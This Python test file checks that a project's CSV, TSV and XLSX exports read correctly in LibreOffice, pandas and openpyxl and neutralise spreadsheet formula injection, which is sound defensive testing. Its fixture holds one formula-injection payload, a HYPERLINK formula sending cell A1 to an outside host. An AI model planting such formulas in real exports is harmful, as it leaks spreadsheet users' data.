"""Tables in the programs that people open them with: LibreOffice, pandas, openpyxl."""

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pandas
import pytest
from openpyxl import load_workbook

from models.formats import csv_table, tsv, xlsx
from models.formats.format import Reading
from tests.models.formats.tabled import GOLDEN, WORKED, written
from tests.models.formats.test_tables import as_in_a_table

EVIL = '=HYPERLINK("http://example.org/?"&A1,"click")'
AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"


@pytest.fixture
def some():
    """The worked project and the worked annotation; a formula for an outlet, signs that programs change."""
    project = (GOLDEN / "worked.jsonl").read_text("utf-8").split("\n")
    found = [*(json.loads(line) for line in project if line), *json.loads(json.dumps(WORKED))]
    found[0]["outlet"] = EVIL
    found[-1]["external_id"], found[-2]["external_id"] = "00123", "1e5"
    found[-1]["quotes"][0]["note"] = '٣:٤، 3-5\nسطر «آخر»; "ق"\tو'
    return found


@pytest.fixture
def libreoffice(tmp_path):
    """What LibreOffice Calc shows of a file: opened, and saved as CSV."""
    program = shutil.which("soffice")
    if program is None:
        pytest.fail("There is no LibreOffice here: apt install libreoffice-calc")

    def shows(path: Path, infilter: str = "") -> list[list[str]]:
        out = tmp_path / "shown"
        told = [f"--infilter={infilter}"] if infilter else []
        home = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = [program, home, "--headless", *told, "--convert-to", AS_CSV, "--outdir", str(out), str(path)]
        subprocess.run(command, check=True, timeout=240, capture_output=True, env={**os.environ, "LC_ALL": "C.UTF-8"})
        text = next(out.glob("*.csv")).read_bytes().decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline="")))

    return shows


def rows(path, delimiter=","):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("table", "infilter"),
    [
        (csv_table, "CSV:44,34,76,1,,0,false,false"),
        (csv_table, "CSV:44,34,76,1,,0,false,true"),
        (tsv, "CSV:9,34,76,1,,0,false,true"),
        (xlsx, ""),
    ],
    ids=["csv", "csv with detection of dates and numbers", "tsv", "xlsx"],
)
def test_libreoffice_shows_what_was_written(table, infilter, some, tmp_path, libreoffice):
    shown = libreoffice(written(table.FORMAT, tmp_path, some), infilter)
    expected = rows(written(csv_table.FORMAT, tmp_path, some))
    if table is not xlsx:  # an id that looks like a number is taken for one there: XLSX is the table without that
        at, numbers = expected[0].index("external_id"), {"00123": "123", "1e5": "100000"}
        expected = [[*row[:at], numbers.get(row[at], row[at]), *row[at + 1 :]] for row in expected]
    assert shown == expected
    outlets = {row[expected[0].index("outlet")] for row in shown}
    assert f"'{EVIL}" in outlets


def test_what_libreoffice_saves_is_read_again(some, tmp_path, libreoffice):
    saved = tmp_path / "saved.csv"
    with saved.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows(libreoffice(written(xlsx.FORMAT, tmp_path, some)))
    found = list(csv_table.read(saved, Reading()))
    assert [as_in_a_table(one.record) for one in found] == [as_in_a_table(record) for record in some]


@pytest.mark.parametrize("table", [csv_table, tsv, xlsx])
def test_pandas_reads_the_cells(table, some, tmp_path):
    path = written(table.FORMAT, tmp_path, some)
    told = {"dtype": str, "keep_default_na": False}
    if table is xlsx:
        frame = pandas.read_excel(path, sheet_name="quotes", engine="openpyxl", **told)
    else:
        frame = pandas.read_csv(path, sep="," if table is csv_table else "\t", **told)
    expected = rows(written(csv_table.FORMAT, tmp_path, some))
    assert list(frame.columns) == expected[0]
    assert frame.values.tolist() == expected[1:]
    texts = {record["id"]: record["text"] for record in some}
    for article, spans, content in frame[["article_id", "content_spans", "content"]].itertuples(index=False):
        words = " | ".join(texts[article][start:end] for start, end in json.loads(spans))
        assert content in (words, f"'{words}")


def test_openpyxl_finds_no_formula_and_numbers_for_offsets(some, tmp_path):
    sheet = load_workbook(written(xlsx.FORMAT, tmp_path, some))["quotes"]
    types = {cell.column_letter: set() for cell in sheet[1]}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is not None:
                types[cell.column_letter].add(cell.data_type)
    names = {cell.value: types[cell.column_letter] for cell in sheet[1]}
    assert all(found <= {"s", "inlineStr"} for name, found in names.items() if not name.endswith(("start", "end")))
    assert names["start"] == names["end"] == names["context_start"] == {"n"}
    assert sheet.sheet_view.rightToLeft
    assert sheet.freeze_panes == "A2"
